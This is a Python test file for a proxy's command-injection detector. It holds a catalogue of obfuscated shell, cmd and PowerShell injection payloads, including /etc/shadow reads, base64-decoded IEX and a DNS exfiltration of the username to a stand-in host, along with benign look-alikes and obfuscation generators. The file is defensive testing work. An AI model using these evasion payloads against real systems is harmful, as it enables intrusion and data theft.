"""
Command injection at medium, session 11: one case per class the rules
before it missed (the evasions of commix's tampers, Bashfuscator's mutators,
cmd and PowerShell obfuscation, fuzzers' bare probes), the hard benign
values beside them, the shell folding that undoes each trick, and two
properties: a detected command obfuscated one more way a shell undoes is
still found, and the prefilter's promise (L{rawOnly}) holds for strings
made of the new tricks' characters.
"""

from __future__ import annotations

import random
from typing import Any

from hypothesis import given, settings, strategies as st
from twisted.trial.unittest import SynchronousTestCase

from akto_proxy.inspect.checks import buildInspectors
from akto_proxy.inspect.normalize import foldShell, literalBreaks, rawOnly, variants
from tests.inspect.test_checks import call, config, rules, verdict

CMD = "command_injection"

# (class, tool, argument, payload): each passed the rules before session 11
ATTACKS = [
    ("quotes opening every word (commix doublequotes)", "backup", "name", 'main;""u""na""m""e -a'),
    ("quotes opening a path (commix singlequotes)", "ping_host", "host", "x&&''h''ead -''n1 /''e''tc/''s''had''o''w"),
    ("backslash opening a word (commix backslashes)", "dns_lookup", "domain", "\\w\\h\\o\\a\\m\\i"),
    ("line continuation inside a word", "resize_image", "image", "1');g\\\nrep root /etc/passwd"),
    ("case operator on an assigned variable (Bashfuscator)", "backup", "name", "v='CAT';${v,,} /etc/hosts"),
    ("variable assigned then run with an argument", "backup", "name", "x;v=touch;$v /tmp/pwned"),
    ("NUL after the command (a C string ends there)", "dns_lookup", "domain", "example.com');ls -la%00"),
    ("quote and bracket closed before the separator", "ping_host", "host", "photo.jpg\");host `uname -n`.oob.example"),
    ("literal \\n before a command", "convert_file", "filename", "\\n/bin/ls -al\\n"),
    ("leading line break as the separator", "convert_file", "filename", "\nfree -m\n"),
    ("any command in $( ) in a value", "git_clone", "url", "x$(groups)"),
    ("any command in glued backticks", "git_clone", "url", "x`users`"),
    ("tool option in capitals after a separator", "ping_host", "host", "127.0.0.1 ; mysql -V"),
    ("time probe as the whole value", "convert_file", "filename", "sleep 5"),
    ("caret before an attack command", "ping_host", "host", "^whoami"),
    ("redirection before an attack command", "ping_host", "host", "<ifconfig"),
    ("quoted attack command", "ping_host", "host", "'whoami'"),
    ("network tool at a host as the value", "ping_host", "host", "nslookup attacker.example"),
    ("command reading a system file", "ping_host", "host", "grep root /etc/passwd"),
    ("a file redirected into a command", "ping_host", "host", "cat</etc/passwd"),
    ("process substitution", "ping_host", "host", "x|<(id)"),
    ("PHP code evaluator (phpinfo)", "backup", "name", "127.0.0.1');}phpinfo();//"),
    ("Python call on a list", "backup", "name", "main\");subprocess.check_output(['id']);#"),
    ("PHP backticks in a string concatenation", "lookup_order", "order_id", "photo.jpg'.`whoami`.'"),
    ("cmd environment substrings", "dns_lookup", "domain", "127.0.0.1&%WINDIR:~4,1%pc%COMSPEC:~-5,1%nfig /all"),
    ("System32 program by its path", "ping_host", "host", "&C:\\Windows\\System32\\net.exe localgroup administrators"),
    ("PowerShell ticks inside a cmdlet", "backup", "name", "1 & Start-`S`leep -s 5"),
    ("PowerShell IEX spelled with ticks", "resize_image", "image", " | I`E`X('whoami')"),
    ("PowerShell invocation of a concatenated name", "backup", "name", ".('i'+'ex')('whoami')"),
    ("PowerShell format-operator name", "backup", "name", ".(\"{1}{0}\" -f 'ex','i')('whoami')"),
    ("PowerShell characters joined", "backup", "name", ".(-join[char[]](105,101,120))('whoami')"),
    ("PowerShell base64 decoded and run", "backup", "name", ".([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('dwBoAG8AYQBtAGkA')))"),
    ("PowerShell alias for iex", "backup", "name", "sal x iex"),
    ("PowerShell ComSpec", "get_user", "username", "; & $env:ComSpec /c Resolve-DnsName $env:USERNAME.oob.example"),
    ("any cmdlet after a separator", "backup", "name", "127.0.0.1&&Test-NetConnection oob.example -Port 443"),
]

# values of the same shapes that are no command
BENIGN = [
    ("backup", "name", "Get-Together"),
    ("search_products", "query", "Get-Process help"),
    ("search_products", "query", "Invoke-WebRequest docs"),
    ("search_products", "query", "1;2;3"),
    ("convert_file", "filename", "Party & Get-Together.docx"),
    ("convert_file", "filename", "Tom & Jerry - S01E02.mkv"),
    ("convert_file", "filename", "R&D; budget (final).xlsx"),
    ("search_products", "query", "$(document).ready not firing"),
    ("search_products", "query", "cost is $(3+4) * 2"),
    ("get_user", "username", "$(Build.SourcesDirectory)"),
    ("convert_file", "filename", "C:\\temp\\new\\notes.txt"),
    ("convert_file", "filename", "line1\\nline2"),
    ("search_products", "query", "PowerShell 7.4 release notes"),
    ("search_products", "query", "whoami podcast"),
    ("search_products", "query", "sleep study results"),
    ("ping_host", "host", "^[a-z]+$"),
    ("convert_file", "filename", "<b>bold</b>.html"),
    ("convert_file", "filename", "<(o_o)>.png"),
    ("get_user", "username", "O'Brien"),
    ("search_products", "query", "E=mc^2"),
    ("convert_file", "filename", "%APPDATA%\\MyApp\\settings.json"),
]


class ClassTests(SynchronousTestCase):
    attacks = ATTACKS
    benign = BENIGN

    def setUp(self) -> None:
        self.steps = buildInspectors(config("threat_detection:\n  sensitivity: medium\n"))

    def test_attacks(self) -> None:
        """
        Each class is found by the command-injection check at medium.
        """
        for name, tool, argument, payload in self.attacks:
            found = rules(verdict(self.steps, call(tool, **{argument: payload})))
            self.assertTrue(any(r.startswith(CMD + ".") for r in found), f"{name}: {payload!r} -> {found}")

    def test_benign(self) -> None:
        """
        The values beside them pass, without any exclusion.
        """
        for tool, argument, text in self.benign:
            found = rules(verdict(self.steps, call(tool, **{argument: text})))
            self.assertEqual({r for r in found if r.startswith(CMD)}, set(), f"{tool}.{argument}: {text!r}")


class FoldTests(SynchronousTestCase):
    def test_opening(self) -> None:
        self.assertEqual(foldShell('x;""w""h""o""a""m""i'), "x;whoami")
        self.assertEqual(foldShell("cat /''e''tc/''pa''sswd"), "cat /etc/passwd")
        self.assertEqual(foldShell("ls -''la"), "ls -la")
        self.assertEqual(foldShell("x|\\w\\h\\o\\a\\m\\i"), "x|whoami")

    def test_continuation(self) -> None:
        self.assertEqual(foldShell("c\\\nat /etc/hosts"), "cat /etc/hosts")

    def test_caseOperators(self) -> None:
        self.assertEqual(foldShell("x='CAT';${x,,} /etc/hosts"), "x='CAT';cat /etc/hosts")
        self.assertEqual(foldShell("x=cat;${x^^}"), "x=cat;CAT")
        self.assertEqual(foldShell("x=Cat;${x~~}"), "x=Cat;cAT")

    def test_carets(self) -> None:
        self.assertEqual(foldShell("x|^q^u^e^r^y ^u^s^e^r"), "x|query user")
        self.assertEqual(foldShell("^[a-z]+$"), "^[a-z]+$")

    def test_ticks(self) -> None:
        self.assertEqual(foldShell("I`E`X('x')"), "IEX('x')")
        self.assertEqual(foldShell("Start-`S`leep -s 5"), "Start-Sleep -s 5")
        self.assertEqual(foldShell("ping`` 127.0.0.1"), "ping 127.0.0.1")
        self.assertEqual(foldShell("x`who\\ami`"), "x`whoami`")  # a shell's substitution keeps its ticks

    def test_nul(self) -> None:
        self.assertEqual(foldShell("ls -la\x00.png"), "ls -la")

    def test_literalBreaks(self) -> None:
        self.assertEqual(literalBreaks("\\n/bin/ls\\r\\n"), "\n/bin/ls\r\n")
        self.assertIn("\nid;", [v.text for v in variants("\\nid;")])
        self.assertEqual([v.kind for v in variants("no breaks here")], ["r"])


# what a shell undoes (the Unix forms) or cmd/PowerShell do (the Windows ones)
def _quotes(word: str, rng: random.Random) -> str:
    return "".join(rng.choice(['""', "''", ""]) + c for c in word)


def _backslashes(word: str, rng: random.Random) -> str:
    return "".join(("\\" if c.isalpha() and rng.random() < 0.6 else "") + c for c in word)


def _unset(word: str, rng: random.Random) -> str:
    return "".join((rng.choice(["${x}", "$@", ""]) if i else "") + c for i, c in enumerate(word))


def _ifs(word: str, rng: random.Random) -> str:
    return word.replace(" ", rng.choice(["${IFS}", "$IFS$9", "\t"]))


UNIX = {"quotes": _quotes, "backslashes": _backslashes, "unset": _unset, "ifs": _ifs}
UNIX_COMMANDS = ["whoami", "uname -a", "cat /etc/passwd", "ifconfig", "nslookup a.example", "wget http://a.example/x", "sleep 5"]
SEPARATORS = [";", "|", "&&", "||", "%0a", "\n", "';", '");', "$(", "`"]


class PropertyTests(SynchronousTestCase):
    steps: Any = None

    def setUp(self) -> None:
        if PropertyTests.steps is None:
            PropertyTests.steps = buildInspectors(config("threat_detection:\n  sensitivity: medium\n"))

    @settings(max_examples=300, deadline=None)
    @given(
        st.sampled_from(UNIX_COMMANDS),
        st.sampled_from(SEPARATORS),
        st.sampled_from(sorted(UNIX)),
        st.integers(0, 2**32 - 1),
    )
    def test_oneMoreObfuscation(self, command: str, separator: str, how: str, seed: int) -> None:
        """
        A command after a separator, found plain, is still found with its
        words obfuscated one more way the shell undoes.
        """
        plain = self._text(command, separator)
        self.assertTrue(self._found(plain), plain)
        rng = random.Random(seed)
        word, _, rest = command.partition(" ")
        obfuscated = UNIX[how](word, rng) + (" " + UNIX[how](rest, rng) if rest and how != "ifs" else "")
        if how == "ifs":
            obfuscated = _ifs(command, rng)
        text = self._text(obfuscated, separator)
        self.assertTrue(self._found(text), f"{how}: {text!r}")

    @settings(max_examples=300, deadline=None)
    @given(
        st.lists(st.sampled_from(list("ab\\n`^'\"\x00$,{}~;|&-/ ") + ["${x,,}", "I`E`X", "\\\n", "''", '""', "x=Y;"]), max_size=16).map("".join)
    )
    def test_rawOnlyPromise(self, text: str) -> None:
        """
        Where L{rawOnly} promises the string is its only form, L{variants}
        makes no other.
        """
        if rawOnly(text):
            self.assertEqual([v.kind for v in variants(text)], ["r"], repr(text))

    def _text(self, command: str, separator: str) -> str:
        if separator == "$(":
            return f"x$({command})"
        if separator == "`":
            return f"x`{command}`"
        return "127.0.0.1" + separator + command

    def _found(self, text: str) -> bool:
        return any(r.startswith(CMD + ".") for r in rules(verdict(self.steps, call("ping_host", host=text))))
